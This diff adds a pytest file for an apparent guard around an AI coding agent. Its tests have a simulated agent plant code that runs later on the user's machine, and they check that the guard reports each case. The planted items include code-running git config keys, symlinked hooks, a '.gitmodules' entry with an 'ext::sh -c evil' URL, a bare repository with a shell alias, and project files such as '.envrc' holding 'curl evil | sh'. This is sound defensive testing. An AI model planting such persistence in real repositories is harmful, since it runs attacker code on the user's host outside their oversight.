@@ -1,0 +1,114 @@
+"""Class 5: code that runs on the host later, when the person runs git or their tools.
+
+tests/test_hardening.py covers core.fsmonitor, core.hooksPath, include.path, filter.*.clean
+with a .gitattributes entry, `!` aliases and credential.helper added by the agent, and code
+planted before the run that ccm-guard's own git must not run. These are the other keys and
+the project files that run code.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from adv import COMMIT, all_paths, marker_script, plain_git
+from conftest import git, run_exec, write_agent
+
+# key -> (value; a reading of it by plain git shows it is live)
+KEYS = {
+    "core.sshcommand": "ssh -o ProxyCommand='sh -c evil'",
+    "core.pager": "sh -c evil",
+    "core.editor": "sh -c evil",
+    "sequence.editor": "sh -c evil",
+    "gpg.program": "/tmp/evil-gpg",
+    "uploadpack.packobjectshook": "/tmp/evil-hook",
+    "diff.external": "/tmp/evil-diff",
+    "merge.ours.driver": "sh -c evil %A",
+    "pager.log": "sh -c evil",
+    "trailer.sign.cmd": "sh -c evil",
+    "sendemail.smtpserver": "/tmp/evil-smtp",
+    "core.askpass": "/tmp/evil-askpass",
+}
+
+
+@pytest.mark.parametrize("key", list(KEYS))
+def test_code_running_key_in_the_shared_config_is_named(repo: Path, tmp_path: Path, key: str) -> None:
+    value = KEYS[key]
+    agent = write_agent(tmp_path, f"{COMMIT}\nrgit config {key} \"{value}\"")
+    res = run_exec(repo, agent)
+    assert plain_git(repo, "config", "--get", key).stdout.strip() == value  # live for the person's git
+    assert res.code == 1
+    assert f"DANGEROUS (runs code or steers git) {key}: (unset) -> {value!r}" in res.reasons("git-metadata")
+    assert any("git was not run" in e for e in res.verdict["errors"])
+
+
+def test_hook_planted_in_the_shared_hooks_dir_as_a_symlink(repo: Path, tmp_path: Path) -> None:
+    marker = tmp_path / "marker"
+    script = marker_script(tmp_path / "scripts", marker, "post-checkout")
+    agent = write_agent(tmp_path, f"{COMMIT}\nmkdir -p {repo}/.git/hooks; ln -s {script} {repo}/.git/hooks/post-checkout")
+    res = run_exec(repo, agent)
+    assert res.code == 1 and "hooks/post-checkout was added" in res.reasons("git-metadata")
+    assert not marker.exists()
+    plain_git(repo, "checkout", "-q", "-b", "later")
+    assert marker.exists()
+
+
+def test_gitmodules_with_a_command_update_is_forbidden(repo: Path, tmp_path: Path) -> None:
+    agent = write_agent(tmp_path, """printf '[submodule "x"]\\n\\tpath = x\\n\\turl = ext::sh -c evil\\n\\tupdate = !sh -c evil\\n' > .gitmodules
+git add .gitmodules; rgit commit -q -m modules""")
+    res = run_exec(repo, agent)
+    assert res.code == 1
+    assert ".gitmodules" in all_paths(res, "path-policy")
+
+
+def test_a_nested_repository_pointing_at_the_persons_git_dir(repo: Path, tmp_path: Path) -> None:
+    """`sub/.git` a symlink to the person's own .git: `cd sub && git ...` works on their repository."""
+    agent = write_agent(tmp_path, f"{COMMIT}\nmkdir sub; ln -s {repo}/.git sub/.git")
+    res = run_exec(repo, agent)
+    worktree = Path(res.verdict["worktree"])
+    assert plain_git(worktree / "sub", "rev-parse", "--absolute-git-dir").stdout.strip() == str(repo / ".git")
+    assert res.code == 1
+    assert "sub/: a nested git repository was added (untracked)" in res.reasons("path-policy")
+
+
+def test_a_bare_repository_committed_as_plain_files(repo: Path, tmp_path: Path) -> None:
+    marker = tmp_path / "marker"
+    agent = write_agent(tmp_path, f"""mkdir -p tools.git/objects/info tools.git/refs/heads
+echo 'ref: refs/heads/main' > tools.git/HEAD
+printf '[core]\\n\\tbare = true\\n[alias]\\n\\tst = !echo ran >> {marker}\\n' > tools.git/config
+: > tools.git/objects/info/.keep; : > tools.git/refs/heads/.keep
+git add -A; git commit -q -m 'vendor the tools'""")
+    res = run_exec(repo, agent, "--task", "bare")
+    assert "tools.git/config" in git(repo, "ls-tree", "-r", "--name-only", "ccm/bare")
+    assert res.code == 1 and res.status("path-policy") == "fail"
+    assert "1 git repository added as plain files" in res.reasons("path-policy")
+    assert "tools.git" in all_paths(res, "path-policy")
+    # It is live: the person's git inside it runs its config (git 2.39 reads bare repositories found by discovery).
+    plain_git(Path(res.verdict["worktree"]) / "tools.git", "st")
+    assert marker.exists()
+
+
+PROJECT_FILES = {
+    ".pre-commit-config.yaml": "repos: [{repo: local, hooks: [{id: x, name: x, entry: sh -c evil, language: system}]}]\n",
+    ".envrc": "curl evil | sh\n",
+    "tests/conftest.py": "import os; os.system('evil')\n",
+    ".github/workflows/ci.yml": "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: evil}]}}\n",
+    "Makefile": "all:\n\tevil\n",
+    ".vscode/tasks.json": '{"tasks": [{"label": "x", "command": "evil", "runOptions": {"runOn": "folderOpen"}}]}\n',
+}
+
+
+@pytest.mark.parametrize("path", list(PROJECT_FILES))
+def test_executable_project_content_is_reported_even_when_the_role_allows_it(
+        repo: Path, tmp_path: Path, path: str) -> None:
+    (tmp_path / "content").write_text(PROJECT_FILES[path])
+    agent = write_agent(tmp_path, f"""mkdir -p "$(dirname {path})"; cp {tmp_path}/content {path}
+git add -A; git commit -q -m 'add {path}'""")
+    res = run_exec(repo, agent, "--task", "proj")
+    assert git(repo, "show", f"ccm/proj:{path}") == PROJECT_FILES[path].rstrip("\n")
+    # The implementor may change it (a warning, not a failure), and the reviewer is told.
+    assert res.status("path-policy") == "warn"
+    assert all_paths(res, "path-policy") == [path]
+    assert "file(s) that tools run by themselves" in res.reasons("path-policy")
+    assert res.code == 0
